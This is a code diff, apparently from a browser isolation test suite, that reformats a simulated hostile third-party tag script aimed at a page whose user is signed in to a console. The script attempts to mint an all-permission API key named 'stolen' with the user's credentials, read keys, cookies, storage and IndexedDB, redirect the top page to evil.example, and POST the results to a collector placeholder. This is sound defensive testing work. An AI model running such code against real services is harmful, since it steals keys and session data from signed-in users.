@@ -22,9 +22,12 @@ const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
 const key = JSON.stringify({ name: 'stolen', permissions: ['*'] });
 for (const at of ['', '${console}']) {
 const of = at || 'own';
-await attempt(of + ' key', async () => (await fetch(at + '/v1/api/keys', { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body: key })).status);
-await attempt(of + ' plain key', async () => (await fetch(at + '/v1/api/keys', { method: 'POST', mode: 'no-cors', credentials: 'include', body: key })).status);
-await attempt(of + ' keys', async () => (await fetch(at + '/v1/api/keys', { credentials: 'include' })).status);
+await attempt(of + ' key', async () => (await fetch(at + '/v1/api/keys', { method: 'POST', credentials: \
+'include', headers: { 'content-type': 'application/json' }, body: key })).status);
+await attempt(of + ' plain key', async () => (await fetch(at + '/v1/api/keys', { method: 'POST', mode: \
+'no-cors', credentials: 'include', body: key })).status);
+await attempt(of + ' keys', async () => (await fetch(at + '/v1/api/keys', { credentials: \
+'include' })).status);
 await attempt(of + ' frame', async () => {
 const frame = document.createElement('iframe');
 frame.src = at + '/console';
@@ -41,7 +44,8 @@ return popup.document.querySelector('#app') !== null;
 }
 await attempt('cookies', () => document.cookie.includes('planted'));
 await attempt('storage', () => localStorage.getItem('planted') !== null);
-await attempt('database', async () => new Promise((resolve, reject) => { const asked = indexedDB.open('x'); asked.onsuccess = () => resolve(true); asked.onerror = reject }));
+await attempt('database', async () => new Promise((resolve, reject) => { const asked = indexedDB.open('x'); \
+asked.onsuccess = () => resolve(true); asked.onerror = reject }));
 await attempt('page', () => top.document.querySelector('main') !== null);
 await attempt('navigation', () => { top.location = 'https://evil.example/'; return true });
 await fetch('${COLLECTOR}', { method: 'POST', mode: 'no-cors', body: JSON.stringify(got) });
@@ -92,7 +96,10 @@ const api = async (
 export const namesOfKeys = async (setup: Setup): Promise<string[]> =>
   (await api(setup, 'GET', '/keys')).keys.map(({ name }: Json) => name);
 
-/** A page with a tag, and a browser in which a person is signed in to the console and the tag's host is hostile. */
+/**
+ * A page with a tag, and a browser in which a person is signed in to the console and
+ * the tag's host is hostile.
+ */
 export async function prepare(
   browser: Browser,
   setup: Setup,
